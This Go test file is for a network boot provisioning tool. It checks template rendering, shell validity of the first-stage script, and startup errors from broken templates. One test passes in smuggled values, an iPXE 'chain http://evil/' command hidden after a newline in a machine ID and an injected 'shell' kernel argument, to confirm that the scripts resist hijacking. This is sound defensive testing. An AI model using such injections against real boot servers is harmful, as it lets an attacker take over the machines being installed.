package render

import (
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/mayu-boot/mayu/pkg/config"
)

func cluster() config.Cluster {
	return config.Cluster{
		Static: config.Static{
			Subnet:  netip.MustParsePrefix("10.0.3.0/24"),
			Gateway: netip.MustParseAddr("10.0.3.1"),
			DNS:     []netip.Addr{netip.MustParseAddr("10.0.3.2"), netip.MustParseAddr("10.0.3.3")},
		},
		Install:      config.Install{Disk: "/dev/sda"},
		Templates:    config.Templates{FirstStage: "fs.sh", FinalConfig: "final.yaml"},
		TemplateVars: map[string]string{"ssh_authorized_key": "ssh-ed25519 AAAA it's-me", "ntp": "10.0.3.1"},
	}
}

// The shipped templates must render and the first stage must be valid sh.
func TestShippedTemplates(t *testing.T) {
	files := fstest.MapFS{}
	for name, key := range map[string]string{"first-stage.sh": "fs.sh", "final-config.yaml": "final.yaml"} {
		data, err := os.ReadFile(filepath.Join("..", "..", "etc", "templates", name))
		if err != nil {
			t.Fatal(err)
		}
		files[key] = &fstest.MapFile{Data: data}
	}
	r, err := New(files, cluster())
	if err != nil {
		t.Fatal(err)
	}
	m := Sample()
	m.InternalAddr = "10.0.3.31"
	m.Metadata["rule-core"] = "true"
	c := r.Context(m, "tok123", "http://10.0.3.250:4081")
	c.Image = Image{SHA256: strings.Repeat("ab", 32), Size: 42}
	fs, err := r.FirstStage(c)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"DISK='/dev/sda'",
		"'http://10.0.3.250:4081/machines/sample-serial/installed?token=tok123'",
		"'http://10.0.3.250:4081/boot/image'",
		"IMAGE_SHA256='" + strings.Repeat("ab", 32) + "'",
	} {
		if !strings.Contains(string(fs), want) {
			t.Errorf("first stage lacks %s", want)
		}
	}
	script := filepath.Join(t.TempDir(), "fs.sh")
	os.WriteFile(script, fs, 0o755)
	if out, err := exec.Command("sh", "-n", script).CombinedOutput(); err != nil {
		t.Fatalf("first stage is not valid sh: %v\n%s", err, out)
	}
	final, err := r.FinalConfig(c)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`hostname: "0000000000000000"`, `address: "10.0.3.31/24"`, `netmask: "255.255.255.0"`,
		`gateway: "10.0.3.1"`, `dns: "10.0.3.2 10.0.3.3"`, `"metadata_rule-core": "true"`,
		`boot_complete_url: "http://10.0.3.250:4081/machines/sample-serial/boot-complete?token=tok123"`,
	} {
		if !strings.Contains(string(final), want) {
			t.Errorf("final config lacks %q:\n%s", want, final)
		}
	}
}

func TestBrokenTemplatesFailAtStart(t *testing.T) {
	for name, tc := range map[string]struct {
		fs, final string
		want      string
	}{
		"parse error":   {fs: "{{.Machine.ID", final: "x", want: "cluster.templates.first_stage"},
		"unknown field": {fs: "ok", final: "{{.Machine.Nope}}", want: "cluster.templates.final_config"},
		"missing var":   {fs: "{{.Vars.nope}}", final: "x", want: "map has no entry"},
		"unknown func":  {fs: "{{frobnicate 1}}", final: "x", want: "frobnicate"},
	} {
		t.Run(name, func(t *testing.T) {
			files := fstest.MapFS{"fs.sh": {Data: []byte(tc.fs)}, "final.yaml": {Data: []byte(tc.final)}}
			_, err := New(files, cluster())
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v, want an error naming %q", err, tc.want)
			}
		})
	}
	_, err := New(fstest.MapFS{"final.yaml": {Data: []byte("x")}}, cluster())
	if err == nil || !strings.Contains(err.Error(), "cluster.templates.first_stage") {
		t.Fatalf("missing template: %v", err)
	}
}

func TestIPXEScriptsCannotBeHijacked(t *testing.T) {
	s := string(WaitScript("http://x", "bad id \"a\nchain http://evil/${x}\""))
	if strings.Contains(s, "\nchain http://evil") || strings.Contains(s, "${x}") {
		t.Fatalf("injected:\n%s", s)
	}
	m := Sample()
	c := (&Renderer{cluster: cluster()}).Context(m, "tok", "http://10.0.3.250:4081")
	inst := string(InstallerScript(c, "console=ttyS0\nshell"))
	if strings.Count(inst, "\n") != 10 || !strings.Contains(inst, "mayu.first_stage=http://10.0.3.250:4081/machines/sample-serial/first-stage?token=tok") {
		t.Fatalf("installer script:\n%s", inst)
	}
	if l := string(LocalBootScript("m1")); !strings.HasSuffix(l, "\nexit\n") {
		t.Fatalf("local boot:\n%s", l)
	}
}
